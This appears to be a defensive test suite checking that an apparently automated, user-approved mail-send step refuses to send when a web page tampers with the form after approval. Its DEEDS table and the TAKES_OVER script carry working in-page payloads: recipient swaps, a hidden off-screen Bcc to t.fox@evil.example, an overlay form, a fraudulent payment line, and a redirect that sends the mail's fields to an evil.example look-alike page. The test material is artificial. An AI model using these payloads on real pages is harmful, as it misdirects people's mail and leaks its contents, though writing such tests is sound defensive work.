import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { asked, until } from '../../support/begin.ts';
import { casesOf } from '../../support/cases.ts';
import { type Job, MIRA, openJob } from '../../support/job.ts';
import { startPlainSite } from '../../support/plain-site.ts';
import { allowOnce, type Ordered, orderMail, sentTo, webmail } from '../../support/webmail.ts';

const FOX = 't.fox@evil.example';
/** Puts the mail that stood on the page before into the form of this one. */
const TAKES_OVER = `<script>
  for (const [name, value] of new URLSearchParams(location.search)) document.querySelector('[name=' + name + ']').value = value;
</script>`;
let job: Job;
let evil: Awaited<ReturnType<typeof startPlainSite>>;
let world: Ordered | undefined;
beforeAll(async () => {
  job = await openJob();
});
afterAll(() => job.close());
beforeEach(async () => {
  evil = await startPlainSite({ '/inbox': webmail() + TAKES_OVER, '/sent': 'Sent' });
});
afterEach(async () => {
  await world?.close();
  await evil.close();
  world = undefined;
});

/** What a page does after the person has seen the mail, as code that runs in the page with the address of another site. */
const DEEDS: Record<string, (evil: string) => void> = {
  'swaps a letter of the recipient': () =>
    Object.assign(document.querySelector('[name=to]') ?? {}, { value: 'rnira@kestrel.example' }),
  'adds a second recipient': () =>
    Object.assign(document.querySelector('[name=to]') ?? {}, { value: 'mira@kestrel.example, t.fox@evil.example' }),
  'changes the subject': () => Object.assign(document.querySelector('[name=subject]') ?? {}, { value: 'Pay now' }),
  'adds a line to the body': () => {
    const body = document.querySelector<HTMLTextAreaElement>('[name=body]');
    if (body) body.value += '\nPay to https://evil.example/pay';
  },
  'adds a copy that everybody sees': () =>
    document
      .querySelector('label')
      ?.insertAdjacentHTML('afterend', '<label>Cc <input name="cc" value="t.fox@evil.example"></label>'),
  'adds a blind copy out of sight': () =>
    document
      .querySelector('form')
      ?.insertAdjacentHTML(
        'beforeend',
        '<input name="bcc" style="position:absolute;left:-9999px" value="t.fox@evil.example">',
      ),
  'adds a blind copy that belongs by its attribute': () => {
    document.querySelector('form')?.setAttribute('id', 'f');
    document.body.insertAdjacentHTML(
      'beforeend',
      '<input type="hidden" form="f" name="bcc" value="t.fox@evil.example">',
    );
  },
  'puts another form over the one that was seen': () => {
    const [form] = document.forms;
    const other = form?.cloneNode(true);
    if (!(other instanceof HTMLFormElement) || !form) return;
    Object.assign(other.querySelector('input') ?? {}, { value: 't.fox@evil.example' });
    form.style.display = 'none';
    form.after(other);
    other.querySelector('input')?.focus();
  },
  'takes the form away': () => document.forms[0]?.remove(),
  'goes on to a page of another site that looks the same': (evil) => {
    const [form] = document.forms;
    const mail = form ? [...new FormData(form)].map(([name, value]) => [name, String(value)]) : [];
    location.assign(`${evil}/inbox?${new URLSearchParams(mail)}`);
  },
  'is written anew for another recipient': () => {
    const html = document.body.innerHTML.replace('name="to"', 'name="to" value="t.fox@evil.example"');
    document.open();
    document.write(html);
    document.close();
  },
};

test.each(casesOf(3, Object.keys(DEEDS)))(
  'sends nothing when the page %s after the person has seen the mail',
  async (deed) => {
    world = await orderMail(job, webmail());
    const [approval] = await asked(world.begun);
    expect(approval?.payload).toMatchObject({ to: [MIRA], bcc: [] });
    await world.page.evaluate(DEEDS[deed] ?? (() => {}), evil.origin);
    await world.page.waitForLoadState();
    expect(await allowOnce(world)).toBe(true);
    await until(world.begun, 'failed');
    expect([...sentTo(world.mail), ...sentTo(evil)]).toEqual([]);
  },
);

test('sends the mail of a page that changes nothing of it', async () => {
  world = await orderMail(job, webmail());
  await world.page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<p>An advert came.</p>'));
  await allowOnce(world);
  await until(world.begun, 'succeeded');
  expect(sentTo(world.mail)).toEqual([expect.stringContaining(`to=${encodeURIComponent(MIRA)}`)]);
});

test('sends nothing to whom the page puts in as soon as Send is pressed in its sight', async () => {
  world = await orderMail(job, webmail());
  await world.page.evaluate((fox) => {
    document.addEventListener(
      'pointerover',
      () => Object.assign(document.querySelector('[name=to]') ?? {}, { value: fox }),
      true,
    );
  }, FOX);
  await allowOnce(world);
  await until(world.begun, 'failed');
  expect(sentTo(world.mail)).toEqual([]);
});
